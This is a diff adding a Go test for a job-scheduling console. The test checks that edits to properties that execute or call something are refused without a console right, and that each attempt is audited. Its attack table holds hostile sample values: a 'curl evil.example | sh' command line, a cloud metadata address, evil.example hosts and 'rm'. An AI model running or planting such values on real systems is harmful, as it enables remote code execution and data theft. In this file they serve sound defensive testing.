@@ -1,0 +1,92 @@
+package console
+
+import (
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+const scripted3x = `cron: 0/5 * * * * ?
+jobName: j
+props:
+  dingtalk.webhook: https://robot.example/send?access_token=Canary-5
+  http.uri: https://billing.example/run
+  plain: value
+  script.command.line: /bin/true
+shardingTotalCount: 2
+`
+
+const scripted2x = `{"jobName":"old","jobClass":"","jobType":"SCRIPT","cron":"0/5 * * * * ?","shardingTotalCount":2,"scriptCommandLine":"/bin/true","jobProperties":{}}`
+
+// putProps sends the job's configuration back with its props changed.
+func putProps(t *testing.T, b treeBench, job string, change map[string]any) reply {
+	t.Helper()
+	var config map[string]any
+	b.call(t, http.MethodGet, "/api/jobs/config/"+job, "").into(t, &config)
+	if props, ok := config["props"].(map[string]any); ok {
+		for key, value := range change {
+			if value == nil {
+				delete(props, key)
+			} else {
+				props[key] = value
+			}
+		}
+	} else {
+		for key, value := range change {
+			config[key] = value
+		}
+	}
+	body, err := json.Marshal(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b.call(t, http.MethodPut, configRoute, string(body))
+}
+
+// TestV21CommandsNeedARight: root's password alone does not run code on the
+// agents. Everything that says what is executed or called stays, and the audit
+// names what somebody tried to change.
+func TestV21CommandsNeedARight(t *testing.T) {
+	eachTree(t, plantedJob("j", scripted3x)+plantedJob("old", scripted2x), func(t *testing.T, b treeBench) {
+		for name, attack := range map[string]map[string]any{
+			"props.script.command.line": {"script.command.line": "/bin/sh -c 'curl evil.example | sh'"},
+			"props.http.uri":            {"http.uri": "http://169.254.169.254/"},
+			"props.http.method":         {"http.method": "DELETE"},
+			"props.http.data":           {"http.data": "amount=1000000"},
+			"props.dingtalk.webhook":    {"dingtalk.webhook": nil},
+			"props.email.host":          {"email.host": "mail.evil.example"},
+			"props.slack.webhookUrl":    {"slack.webhookUrl": "x"},
+			"props.target":              {"target": "https://evil.example/"}, // by its value
+			"props.runner.command":      {"runner.command": "rm"},
+		} {
+			r := putProps(t, b, "j", attack)
+			wantStatus(t, r, http.StatusForbidden)
+			var answer errorBody
+			r.into(t, &answer)
+			if answer.Code != "command_changes_off" || len(answer.Fields) != 1 || answer.Fields[0].Field != name || strings.Contains(r.body, "Canary") {
+				t.Errorf("%s: %s", name, r.body)
+			}
+			if record := b.settings.records[len(b.settings.records)-1]; record.Outcome != "command_changes_off" || !strings.Contains(record.Detail, name) {
+				t.Errorf("%s: record %+v", name, record)
+			}
+		}
+		wantStatus(t, putProps(t, b, "old", map[string]any{"scriptCommandLine": "/bin/false"}), http.StatusForbidden)
+		if b.node(t, "j/config") != scripted3x || b.node(t, "old/config") != scripted2x {
+			t.Errorf("something was stored: %s %s", b.node(t, "j/config"), b.node(t, "old/config"))
+		}
+
+		// What is not executed can change, with the rest as it was stored.
+		wantStatus(t, putProps(t, b, "j", map[string]any{"plain": "other", "report.recipients": "ops"}), http.StatusNoContent)
+		if record := b.settings.records[len(b.settings.records)-1]; !strings.Contains(record.Detail, "props.plain") || strings.Contains(record.Detail, "props.http") {
+			t.Errorf("record %+v", record)
+		}
+		wantStatus(t, putProps(t, b, "old", map[string]any{"cron": "0/7 * * * * ?"}), http.StatusNoContent)
+		// The right is that of the console.
+		b.console.opts.CommandChanges = true
+		wantStatus(t, putProps(t, b, "j", map[string]any{"script.command.line": "/bin/false"}), http.StatusNoContent)
+		if record := b.settings.records[len(b.settings.records)-1]; !strings.Contains(record.Detail, "props.script.command.line") || strings.Contains(record.Detail, "/bin/false") {
+			t.Errorf("record %+v", record)
+		}
+	})
+}
